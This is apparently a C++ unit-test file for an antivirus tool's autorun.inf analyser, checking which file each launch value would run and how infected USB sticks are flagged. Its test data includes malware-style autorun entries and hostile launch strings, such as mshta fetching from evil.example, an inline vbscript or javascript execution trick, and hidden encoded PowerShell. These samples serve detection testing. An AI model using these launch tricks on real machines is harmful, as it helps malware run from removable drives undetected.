#include "engine/autorun_targets.h"
#include "engine/detection_rows.h"
#include "heal/autorun_target_rule.h"

#include <gtest/gtest.h>

#include <map>
#include <string>
#include <vector>

namespace tollivar {
namespace {

using Kind = AutorunTargetKind;

std::optional<std::string> TestEnvironment(const std::string& name) {
    static const std::map<std::string, std::string> vars = {{"windir", "C:\\WINDOWS"},
                                                            {"SystemRoot", "C:\\WINDOWS"},
                                                            {"ComSpec", "C:\\WINDOWS\\system32\\cmd.exe"},
                                                            {"SUB", "tools\\"},
                                                            {"EMPTY", ""}};
    const auto v = vars.find(name);
    if (v == vars.end()) return std::nullopt;
    return v->second;
}

struct ValueCase {
    const char* value; // as the profile reader hands it over
    const char* path;  // "" for no target
    Kind kind;
};

class LaunchValue : public testing::TestWithParam<ValueCase> {};

TEST_P(LaunchValue, ResolvesToTheFileThatRuns) {
    const ValueCase& c = GetParam();
    const AutorunTarget t = ResolveLaunchValue("E:\\", c.value, TestEnvironment);
    EXPECT_EQ(t.path, c.path) << c.value;
    if (*c.path) {
        EXPECT_EQ(t.kind, c.kind) << c.value;
    }
}

INSTANTIATE_TEST_SUITE_P(
    PlainPrograms, LaunchValue,
    testing::Values(ValueCase{"setup.exe", "E:\\setup.exe", Kind::Program},
                    ValueCase{"bin\\run.exe /auto", "E:\\bin\\run.exe", Kind::Program},
                    ValueCase{"run.exe/x", "E:\\run.exe", Kind::Program},
                    ValueCase{"\"my prog.exe\" /s", "E:\\my prog.exe", Kind::Program},
                    ValueCase{"%windir%\\x.exe", "C:\\WINDOWS\\x.exe", Kind::Program},
                    ValueCase{"notrundll32.exe x.dll,e", "E:\\notrundll32.exe x.dll,e", Kind::Program},
                    // A program of a host's name on the stick itself is the stick's program.
                    ValueCase{"RECYCLER\\cmd.exe /c x.bat", "E:\\RECYCLER\\cmd.exe", Kind::Program},
                    ValueCase{"E:\\wscript.exe", "E:\\wscript.exe", Kind::Program},
                    ValueCase{"%SUB%mshta.exe x.hta", "E:\\tools\\mshta.exe x.hta", Kind::Program},
                    ValueCase{"x/", "E:\\x", Kind::Program}, ValueCase{"", "", Kind::Program},
                    ValueCase{"%EMPTY%", "", Kind::Program}));

INSTANTIATE_TEST_SUITE_P(
    HostArguments, LaunchValue,
    testing::Values(
        ValueCase{"rundll32.exe .\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx,ahaezedrn",
                  "E:\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx", Kind::HostArgument},
        ValueCase{"RunDll32 \"\\my dir\\x,y.dll\",Entry", "E:\\my dir\\x,y.dll", Kind::HostArgument},
        ValueCase{"C:\\WINDOWS\\system32\\rundll32.exe x.dll,e", "E:\\x.dll", Kind::HostArgument},
        ValueCase{"%windir%\\system32\\RUNDLL32.EXE \\sys\\x.dll,e", "E:\\sys\\x.dll", Kind::HostArgument},
        ValueCase{"\"C:\\Program Files\\..\\Windows\\System32\\rundll32.exe\" x.dll,e", "E:\\x.dll",
                  Kind::HostArgument},
        ValueCase{"rundll32 %SUB%x.dll,e", "E:\\tools\\x.dll", Kind::HostArgument},
        ValueCase{"rundll32 C:\\x.dll,e", "C:\\x.dll", Kind::HostArgument},
        ValueCase{"regsvr32 /s /u .\\x.dll", "E:\\x.dll", Kind::HostArgument},
        ValueCase{"wscript.exe //e:vbscript //b .\\sys\\run.txt /go", "E:\\sys\\run.txt", Kind::HostArgument},
        ValueCase{"CSCRIPT //nologo \"a b\\x.js\"", "E:\\a b\\x.js", Kind::HostArgument},
        ValueCase{"mshta.exe x.hta", "E:\\x.hta", Kind::HostArgument},
        ValueCase{"cmd /c start x.exe", "E:\\x.exe", Kind::HostArgument},
        ValueCase{"cmd.exe /C start \"\" /min /d C:\\ .\\a\\b.exe arg", "E:\\a\\b.exe", Kind::HostArgument},
        ValueCase{"cmd /k x.bat", "E:\\x.bat", Kind::HostArgument},
        ValueCase{"%ComSpec% /c start x.exe", "E:\\x.exe", Kind::HostArgument},
        ValueCase{"cmd /q /c x.bat&del x", "E:\\x.bat", Kind::HostArgument},
        ValueCase{"cmd /c \"start x.exe\"", "E:\\x.exe", Kind::HostArgument},
        // The command after "/c" may be a host again.
        ValueCase{"cmd /cstart rundll32 y.dll,e", "E:\\y.dll", Kind::HostArgument},
        ValueCase{"cmd /c start wscript //b %SUB%s.vbs", "E:\\tools\\s.vbs", Kind::HostArgument},
        ValueCase{"powershell.exe -noprofile -executionpolicy bypass -file .\\s\\p.ps1", "E:\\s\\p.ps1",
                  Kind::HostArgument},
        ValueCase{"PowerShell -ep Bypass -w hidden -f \"p q.ps1\"", "E:\\p q.ps1", Kind::HostArgument},
        ValueCase{"pwsh -NoLogo .\\p.ps1", "E:\\p.ps1", Kind::HostArgument},
        ValueCase{"powershell -command .\\p.ps1", "E:\\p.ps1", Kind::HostArgument}));

// A host handed no file gives the host itself, which lies in the system folder.
INSTANTIATE_TEST_SUITE_P(
    HostsWithoutFile, LaunchValue,
    testing::Values(
        ValueCase{"mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run\"\"x\"\"\")",
                  "C:\\WINDOWS\\System32\\mshta.exe", Kind::HostProgram},
        ValueCase{"mshta http://evil.example/x.hta", "C:\\WINDOWS\\System32\\mshta.exe", Kind::HostProgram},
        ValueCase{"rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"",
                  "C:\\WINDOWS\\System32\\rundll32.exe", Kind::HostProgram},
        ValueCase{"rundll32.exe", "C:\\WINDOWS\\System32\\rundll32.exe", Kind::HostProgram},
        ValueCase{"cmd", "C:\\WINDOWS\\System32\\cmd.exe", Kind::HostProgram},
        ValueCase{"%ComSpec% /k", "C:\\WINDOWS\\system32\\cmd.exe", Kind::HostProgram},
        ValueCase{"cmd /c", "C:\\WINDOWS\\System32\\cmd.exe", Kind::HostProgram},
        ValueCase{"cmd x.bat", "C:\\WINDOWS\\System32\\cmd.exe", Kind::HostProgram},
        ValueCase{"powershell -enc SQBFAFgA", "C:\\WINDOWS\\System32\\powershell.exe", Kind::HostProgram},
        ValueCase{"powershell Get-Date", "C:\\WINDOWS\\System32\\powershell.exe", Kind::HostProgram},
        ValueCase{"%windir%\\system32\\wscript.exe //b", "C:\\WINDOWS\\system32\\wscript.exe",
                  Kind::HostProgram},
        ValueCase{"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -file",
                  "C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", Kind::HostProgram}));

TEST(LaunchValue, SystemFolderFromTheEnvironment) {
    const auto lookup = [](const std::string& name) -> std::optional<std::string> {
        if (name == "windir") return std::string("D:\\Win\\");
        return std::nullopt;
    };
    EXPECT_EQ(ResolveLaunchValue("E:\\", "mshta", lookup).path, "D:\\Win\\System32\\mshta.exe");
    EXPECT_EQ(ResolveLaunchValue("E:\\", "mshta", nullptr).path, "C:\\Windows\\System32\\mshta.exe");
}

struct StickCase {
    const char* label;
    const char* autorunInf;
    std::vector<AutorunTarget> targets;
};

class StickTargets : public testing::TestWithParam<StickCase> {};

TEST_P(StickTargets, EveryDistinctTargetOnce) {
    const StickCase& c = GetParam();
    const AutorunTargets t = AnalyzeAutorunText("E:\\", c.autorunInf, TestEnvironment);
    EXPECT_EQ(t.targets, c.targets);
    EXPECT_EQ(t.infPath, c.targets.empty() ? "" : "E:\\autorun.inf");
}

INSTANTIATE_TEST_SUITE_P(
    Sticks, StickTargets,
    testing::Values(
        StickCase{"RundllPayloadInHiddenFolder",
                  "[autorun]\r\n"
                  "open=rundll32.exe .\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx,ahaezedrn\r\n"
                  "icon=%SystemRoot%\\system32\\SHELL32.dll,4\r\n"
                  "action=Open folder to view files\r\n"
                  "shell\\open=Open\r\n"
                  "shell\\open\\command=rundll32.exe .\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx,ahaezedrn\r\n"
                  "shell\\open\\default=1\r\n"
                  "shell\\explore\\command=rundll32.exe .\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx,ahaezedrn\r\n",
                  {{"E:\\RECYCLER\\S-1-5-21\\jwgkvsq.vmx", "open", Kind::HostArgument}}},
        StickCase{"SeveralSpellingsOfOneProgram",
                  "[autorun]\nshellexecute=sys\\ok.exe\nOPEN=.\\SYS\\OK.EXE\nshell\\autoplay\\command="
                  "sys\\\\ok.exe\n"
                  "shell\\open\\command=\"sys\\ok.exe\"\n",
                  {{"E:\\sys\\ok.exe", "shellexecute", Kind::Program}}},
        StickCase{"OnlyShellOpenCommand",
                  "[autorun]\nshell\\open\\command=ms\\p.exe /r\n",
                  {{"E:\\ms\\p.exe", "shell\\open\\command", Kind::Program}}},
        StickCase{
            "ShellChoosesCustomVerb",
            "[AutoRun]\nshell=Sc4n\nshell\\Sc4n=Scan for viruses\nshell\\Sc4n\\command=wscript //e:vbscript "
            "sys\\a.dat\nshell\\open\\command=cmd /c start sys\\b.exe\n",
            {{"E:\\sys\\a.dat", "shell\\Sc4n\\command", Kind::HostArgument},
             {"E:\\sys\\b.exe", "shell\\open\\command", Kind::HostArgument}}},
        StickCase{"HostAndPayloadBothKept",
                  "[autorun]\nopen=mshta vbscript:close(1)\nshellexecute=regsvr32 /s x.ocx\n",
                  {{"C:\\WINDOWS\\System32\\mshta.exe", "open", Kind::HostProgram},
                   {"E:\\x.ocx", "shellexecute", Kind::HostArgument}}},
        StickCase{"SetupDisc",
                  "[autorun]\nopen=setup.exe\nicon=setup.exe,0\nlabel=Product Setup\n",
                  {{"E:\\setup.exe", "open", Kind::Program}}},
        StickCase{"QuotesAroundTheWholeValue",
                  "[autorun]\nopen=\"rundll32 x.dll,e\"\n",
                  {{"E:\\x.dll", "open", Kind::HostArgument}}},
        StickCase{"IconAndLabelOnly", "[autorun]\nicon=drive.ico\nlabel=My Stick\n", {}},
        StickCase{"EmptyValues", "[autorun]\nopen=\nshellexecute=  \nshell\\open\\command=\"\"\n", {}},
        StickCase{"EmptyFile", "", {}}),
    [](const testing::TestParamInfo<StickCase>& info) { return std::string(info.param.label); });

TEST(StickTargets, Utf16FileGivesItsPayload) {
    const std::string text = "\t[autorun\r\n;junk\r\nshell\\open\\command=rundll32 .\\RECYCLER\\x.vmx,e\r\n";
    std::string bytes = "\xFF\xFE";
    for (char c : text) {
        bytes += c;
        bytes += '\0';
    }
    const AutorunTargets t = AnalyzeAutorunText("F:\\", bytes, TestEnvironment);
    ASSERT_EQ(t.targets.size(), 1u);
    EXPECT_EQ(t.targets[0].path, "F:\\RECYCLER\\x.vmx");
    EXPECT_EQ(t.infPath, "F:\\autorun.inf");
    EXPECT_TRUE(t.pathsAreUtf8);
    EXPECT_FALSE(AnalyzeAutorunText("F:\\", "[autorun]\nopen=\xFC.exe\n", TestEnvironment).pathsAreUtf8);
}

TEST(StickTargets, LongValuesAreCutAsTheProfileReaderCutsThem) {
    // 600 characters: the reader hands over 511 of them. In UTF-8 text the cut drops a split character.
    const std::string ascii = "[autorun]\nopen=" + std::string(600, 'a') + "\n";
    EXPECT_EQ(AnalyzeAutorunText("E:\\", ascii, TestEnvironment).targets.at(0).path,
              "E:\\" + std::string(511, 'a'));
    std::string wide = "\xEF\xBB\xBF[autorun]\nopen=aa";
    for (int i = 0; i < 300; ++i)
        wide += "\xC3\xBC"; // 2 + 600 bytes: the 511th is the first half of a character
    wide += "\n";
    std::string expected = "E:\\aa";
    for (int i = 0; i < 254; ++i)
        expected += "\xC3\xBC";
    EXPECT_EQ(AnalyzeAutorunText("E:\\", wide, TestEnvironment).targets.at(0).path, expected);
}

TEST(StickTargets, FindingsGiveTheRowsOfEachTarget) {
    const AutorunTargets t = AnalyzeAutorunText(
        "E:\\", "[autorun]\nopen=a\\one.exe\nshell\\x\\command=rundll32 b\\two.dll,e\n", TestEnvironment);
    const std::vector<AutorunFinding> findings = FindingsOf(t);
    ASSERT_EQ(findings.size(), 2u);
    EXPECT_EQ(ShieldRowsFor(findings[0])[0], (ShieldRow{"E:\\autorun.inf", "one.exe", "suspicious."}));
    EXPECT_EQ(ShieldRowsFor(findings[1])[1],
              (ShieldRow{"E:\\b\\two.dll", "possible malware.", "suspicious.", "E:\\"}));
    EXPECT_TRUE(FindingsOf(AutorunTargets{}).empty());
}

TEST(StickTargets, HostInTheSystemFolderIsNeverHealed) {
    const AutorunTargets t = AnalyzeAutorunText(
        "E:\\", "[autorun]\nopen=mshta http://x\nshell\\open\\command=C:\\WINDOWS\\system32\\cmd.exe\n",
        TestEnvironment);
    ASSERT_EQ(t.targets.size(), 2u);
    for (const AutorunTarget& target : t.targets) {
        EXPECT_EQ(target.kind, Kind::HostProgram);
        EXPECT_NE(PlaceOfAutorunTarget(target.path, "E:\\", "C:\\WINDOWS", "C:\\Tollivar"),
                  AutorunTargetPlace::OnItsDrive);
    }
}

TEST(StickTargets, ManyEntriesNamingFewPrograms) {
    std::string text = "[autorun]\n";
    for (int i = 0; i < 20000; ++i)
        text += (i % 2 ? "open=x" : "shell\\v\\command=rundll32 .\\X") + std::to_string(i % 100) + ".exe\n";
    const AutorunTargets t = AnalyzeAutorunText("E:\\", text, TestEnvironment);
    ASSERT_EQ(t.targets.size(), 100u);
    EXPECT_EQ(t.targets[0], (AutorunTarget{"E:\\X0.exe", "shell\\v\\command", Kind::HostArgument}));
    EXPECT_EQ(t.targets[1], (AutorunTarget{"E:\\x1.exe", "open", Kind::Program}));
}

} // namespace
} // namespace tollivar
